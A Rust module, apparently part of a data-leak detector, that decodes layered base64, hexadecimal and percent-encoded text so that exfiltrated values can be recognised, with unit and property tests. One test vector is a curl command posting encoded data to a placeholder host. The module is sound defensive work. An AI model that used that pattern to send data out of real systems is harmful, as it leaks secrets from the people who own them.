//! Text hidden by base64, hexadecimal or percent encoding: exfiltrated this way, it matches no source as written.
//!
//! A few layers are decoded one after the other, each in linear time. Nothing is guessed: the result must be readable UTF-8.

use base64::Engine as _;
use base64::engine::general_purpose::{GeneralPurpose, STANDARD_NO_PAD, URL_SAFE_NO_PAD};

/// Layers that are decoded.
const DEPTH: usize = 3;

/// Bytes of a text that are searched.
const LONGEST: usize = 512 * 1024;

/// Maximum number of hidden texts kept for one value.
const MOST: usize = 32;

/// Shortest run that may hide something, in characters.
const LEAST: usize = 24;

/// Shortest piece, in characters, after which a run may continue past whitespace or another separator.
const LINE: usize = 16;

/// Returns every text hidden in this one, outer layers first.
pub fn decoded(text: &str) -> Vec<String> {
    hidden(text, LEAST)
}

/// The same for runs of at least `shortest` characters: they may be shorter where only values with a recognisable format are
/// searched for in them.
pub fn hidden(text: &str, shortest: usize) -> Vec<String> {
    let text = text.get(..text.floor_char_boundary(LONGEST)).unwrap_or_default();
    let (mut found, mut last) = (Vec::new(), layer(text, shortest));
    for _ in 1..DEPTH {
        let next: Vec<String> = last.iter().flat_map(|text| layer(text, shortest)).take(MOST).collect();
        found.append(&mut last);
        last = next;
    }
    found.extend(last);
    found.truncate(MOST);
    found
}

/// Returns the texts under one layer.
fn layer(text: &str, shortest: usize) -> Vec<String> {
    let runs = runs(text, shortest);
    let whole = runs.iter().filter_map(|run| unwrapped(run, shortest));
    whole.chain(percent(text, shortest)).chain(pairs(text, shortest)).take(MOST).collect()
}

fn in_run(ch: char) -> bool {
    ch.is_ascii_alphanumeric() || matches!(ch, '+' | '/' | '-' | '_' | '=')
}

/// Returns runs of base64 or hexadecimal digits, joining those that span several lines.
fn runs(text: &str, shortest: usize) -> Vec<String> {
    let mut runs: Vec<String> = Vec::new();
    let mut open = false;
    for (place, piece) in text.split(|ch: char| !in_run(ch)).enumerate() {
        // Two separators in a row leave an empty piece: CR and LF do.
        if piece.is_empty() && place > 0 {
            continue;
        }
        let goes_on = piece.len() >= LINE;
        match runs.last_mut().filter(|_| open) {
            Some(last) => last.push_str(piece),
            None => runs.push(piece.to_owned()),
        }
        open = goes_on;
    }
    runs.retain(|run| run.len() >= shortest);
    runs
}

/// Decodes a run: as a whole, a part between equals signs, or what follows its last slash.
fn unwrapped(run: &str, shortest: usize) -> Option<String> {
    let run = run.trim_end_matches('=');
    let last = run.rsplit(['=', '/']).next();
    let all = std::iter::once(run).chain(run.split('=')).chain(last);
    let mut all = all.filter(|piece| piece.len() >= shortest);
    all.find_map(|piece| of_hex(piece).or_else(|| of_base64(piece)))
}

/// Decodes base64 in either alphabet. Extra characters before or after it do not matter.
fn of_base64(piece: &str) -> Option<String> {
    let engines: [&GeneralPurpose; 2] = [&STANDARD_NO_PAD, &URL_SAFE_NO_PAD];
    (0..4).filter_map(|skip| piece.get(skip..)).find_map(|piece| {
        let whole = piece.get(..piece.len() / 4 * 4)?;
        let open = |engine: &&GeneralPurpose| {
            let bytes = engine.decode(piece).or_else(|_| engine.decode(whole)).ok()?;
            readable(&bytes)
        };
        engines.iter().find_map(open)
    })
}

fn of_hex(piece: &str) -> Option<String> {
    let digit = |byte: u8| char::from(byte).to_digit(16).and_then(|digit| u8::try_from(digit).ok());
    let digits: Vec<u8> = piece.bytes().map(digit).collect::<Option<_>>()?;
    let bytes: Vec<u8> =
        digits.chunks_exact(2).map(|pair| pair.iter().fold(0, |sum, digit| sum << 4 | digit)).collect();
    readable(&bytes)
}

/// Decodes hexadecimal digits in pairs: `48 65`, `48:65`, `\x48\x65`, `0x48, 0x65`, `%48%65`.
fn pairs(text: &str, shortest: usize) -> Vec<String> {
    let mut found = Vec::new();
    let mut run = String::new();
    let groups =
        text.split(|ch: char| ch.is_whitespace() || matches!(ch, ',' | ':' | ';' | '-' | '\\' | 'x' | '%'));
    for group in groups.chain(std::iter::once("end")).filter(|group| !matches!(*group, "" | "0")) {
        if group.len() == 2 && group.bytes().all(|byte| byte.is_ascii_hexdigit()) {
            run.push_str(group);
            continue;
        }
        let whole = std::mem::take(&mut run);
        found.extend((whole.len() >= shortest).then(|| of_hex(&whole)).flatten());
    }
    found
}

/// Decodes percent-encoded words, as in URLs; the rest of the text is not hidden.
fn percent(text: &str, shortest: usize) -> Vec<String> {
    let coded = text.split_whitespace().filter(|word| word.len() >= shortest && word.contains('%'));
    coded.filter_map(of_percent).collect()
}

fn of_percent(word: &str) -> Option<String> {
    let digit = |byte: Option<&u8>| char::from(*byte?).to_digit(16);
    let (bytes, mut at, mut plain) = (word.as_bytes(), 0, Vec::new());
    while let Some(&byte) = bytes.get(at) {
        let code = digit(bytes.get(at + 1)).zip(digit(bytes.get(at + 2))).filter(|_| byte == b'%');
        let code = code.and_then(|(high, low)| u8::try_from(high * 16 + low).ok());
        plain.push(code.unwrap_or(if byte == b'+' { b' ' } else { byte }));
        at += if code.is_some() { 3 } else { 1 };
    }
    if plain.len() == bytes.len() { None } else { readable(&plain) }
}

/// Returns the bytes as text if it has no control characters; a character cut off at either end does not matter.
fn readable(bytes: &[u8]) -> Option<String> {
    let cut = bytes.iter().take(3).take_while(|byte| **byte & 0xc0 == 0x80).count();
    let bytes = bytes.get(cut..)?;
    let text = match std::str::from_utf8(bytes) {
        Ok(text) => text,
        Err(error) if error.error_len().is_none() => {
            std::str::from_utf8(bytes.get(..error.valid_up_to())?).ok()?
        }
        Err(_) => return None,
    };
    let fine = text.chars().all(|ch| !ch.is_control() || matches!(ch, '\n' | '\r' | '\t'));
    (fine && text.len() >= 8).then(|| text.to_owned())
}

#[cfg(test)]
mod tests {
    use base64::engine::general_purpose::STANDARD;
    use proptest::prelude::*;

    use super::*;

    const WORDS: &str = "the door code of the mill is kept by the neighbour in the blue house";

    fn hex(text: &str, before: &str, between: &str) -> String {
        text.bytes().map(|byte| format!("{before}{byte:02x}")).collect::<Vec<_>>().join(between)
    }

    #[test]
    fn layers_are_taken_off() {
        let base = STANDARD.encode(WORDS);
        let lines: Vec<&str> =
            base.as_bytes().chunks(32).map(|line| std::str::from_utf8(line).unwrap()).collect();
        for hidden in [
            base.clone(),
            STANDARD.encode(&base),
            STANDARD.encode(hex(WORDS, "", "")),
            format!("see: {base}."),
            format!("xy{base}z"),
            format!("https://x.example/log/{base}"),
            format!("https://x.example/?d={base}"),
            format!("curl -d data={base} https://x.example"),
            lines.join("\r\n"),
            lines.join(" "),
            URL_SAFE_NO_PAD.encode(WORDS),
            hex(WORDS, "", ""),
            hex(WORDS, "\\x", ""),
            hex(WORDS, "0x", ", "),
            hex(WORDS, "", ":"),
            hex(WORDS, "%", ""),
            format!("https://x.example/?q={}", WORDS.replace(' ', "%20")),
            format!("https://x.example/?q={}&l=%20", WORDS.replace(' ', "+")),
        ] {
            assert!(
                decoded(&hidden).iter().any(|text| text.contains(WORDS)),
                "{hidden}: {:?}",
                decoded(&hidden)
            );
        }
        let chinese = "仓库的门禁密码由隔壁蓝色房子里的邻居保管";
        assert!(decoded(&STANDARD.encode(chinese))[0].contains(chinese));
    }

    #[test]
    fn what_is_written_plainly_is_not_hidden() {
        for text in [
            WORDS,
            "Donaudampfschifffahrtsgesellschaftskapitaensmuetze and internationalization-of-things",
            "100 % of it, 50% off",
            "/home/anna/projects/website/source/components/header",
            "550e8400-e29b-41d4-a716-446655440000",
            "de89370400440532013000 gb33bukb20201555555555",
        ] {
            assert_eq!(decoded(text), Vec::<String>::new(), "{text}");
        }
        assert_eq!(decoded(&format!("{WORDS} a%20b%20c%20d%20e%20f%20g%20h%20i")), ["a b c d e f g h i"]);
    }

    proptest! {
        #[test]
        fn any_text_is_safe(text in "\\PC{0,60}|[A-Za-z0-9+/=%x\\\\ \n-]{0,200}") {
            let _ = decoded(&text);
        }

        #[test]
        fn what_was_encoded_comes_out(text in "[a-zé中 ]{30,90}", skip in 0..4_usize) {
            let coded = format!("{}{}", &"AAAA"[..skip], STANDARD.encode(&text));
            let inner: String = text.chars().skip(4).take(20).collect();
            prop_assert!(decoded(&coded).iter().any(|found| found.contains(&inner)), "{:?}", decoded(&coded));
        }
    }
}
